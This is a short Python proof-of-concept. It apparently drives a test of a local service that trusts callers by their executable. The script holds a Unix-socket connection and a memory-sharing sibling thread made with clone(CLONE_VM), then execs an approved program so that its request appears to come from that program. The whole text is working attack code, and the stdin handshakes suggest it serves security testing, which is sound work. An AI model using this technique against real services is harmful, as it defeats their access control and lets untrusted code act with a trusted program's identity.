"""The attack of sibling.c by an interpreter of the system: all that it executes comes from files that only root can
write, and the approved program is mapped as executable before it is executed.

sibling.py SOCKET REQUEST VICTIM: says "connected", goes on at a line of input, says "changed", goes on again
"""
import ctypes
import mmap
import os
import signal
import socket
import sys

CLONE_VM = 0x100
path, request, victim = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)


def word(text):
    print(text, flush=True)
    os.read(0, 64)


def until_named(pid, name):
    while open(f"/proc/{pid}/comm").read().strip() != name:
        os.sched_yield()


program = os.open(victim, os.O_RDONLY)
mapped = mmap.mmap(program, os.fstat(program).st_size, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC)
connection = socket.socket(socket.AF_UNIX)
connection.connect(path)
connection.set_inheritable(True)
word("connected")

# A thread of no group of ours: it runs a function of libc for ever, in our memory.
stack = mmap.mmap(-1, 1 << 16)
top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 16)
sibling = libc.clone(libc.pause, ctypes.c_void_p(top), CLONE_VM | signal.SIGCHLD, None)
connection.sendall(request.encode() + b"\n")
if os.fork() == 0:
    process = os.getppid()
    until_named(process, "waiting")
    word("changed")
    connection.settimeout(20)
    answer = connection.recv(65536)
    os.write(1, answer)
    os.kill(sibling, signal.SIGKILL)
    os.kill(process, signal.SIGKILL)
    os._exit(0)
os.execv(victim, [victim])
